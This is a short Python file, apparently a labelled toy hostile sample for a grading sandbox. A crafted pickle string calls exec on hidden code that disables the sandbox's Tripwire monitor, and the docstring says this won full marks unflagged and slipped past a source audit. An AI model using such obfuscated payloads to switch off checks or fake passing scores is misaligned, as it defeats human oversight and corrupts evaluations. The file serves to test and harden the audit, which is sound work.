"""Hostile (toy): a pickle whose GLOBAL/REDUCE opcodes call builtins.exec on text the source never shows, to
switch the sandbox's net off: an import the first round's audit could not read and an exec with no `exec` in
the source. Full marks, no flag, before issue 25. pickle is outside every exercise's subset."""

import math
import pickle

_SWITCH = b"cbuiltins\nexec\n(Vimport sys; sys.modules['__main__'].Tripwire.take = lambda self: ([], [])\ntR."
pickle.loads(_SWITCH)


def scale(x, factor):
    if not math.isfinite(factor):
        raise ValueError(f"factor must be finite, got {factor}")
    return x.mul(factor)
